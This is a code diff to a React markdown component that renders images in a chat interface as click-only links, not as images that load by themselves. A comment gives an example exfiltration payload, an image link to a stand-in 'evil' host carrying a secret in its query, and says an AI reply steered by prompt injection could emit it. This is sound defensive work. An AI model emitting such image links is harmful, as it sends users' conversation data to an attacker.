@@ -40,9 +40,21 @@ const components = {
   a({ node, ...props }) {
     return <a {...props} target="_blank" rel="noopener noreferrer nofollow" />;
   },
+  // An image is never loaded by itself: its address could carry the chat's text to any
+  // server (a reply steered by a prompt injection writes `![](https://evil/?q=secret)`).
+  // It is a link instead, opened in a new tab only if the reader clicks it.
+  img({ node, src, alt, title }) {
+    return (
+      <a href={src} title={title || src} target="_blank" rel="noopener noreferrer nofollow"
+        className="md-image" data-testid="md-image">
+        {"🖼 "}{alt || "image"}
+      </a>
+    );
+  },
 };
 
-// No rehype-raw: HTML in a message stays text; react-markdown drops javascript: URLs.
+// No rehype-raw: HTML in a message stays text (an <img> tag too); react-markdown drops
+// javascript: URLs. Nothing a message contains makes the browser fetch anything.
 function Markdown({ source }) {
   return (
     <ReactMarkdown remarkPlugins={[remarkGfm]} components={components}>
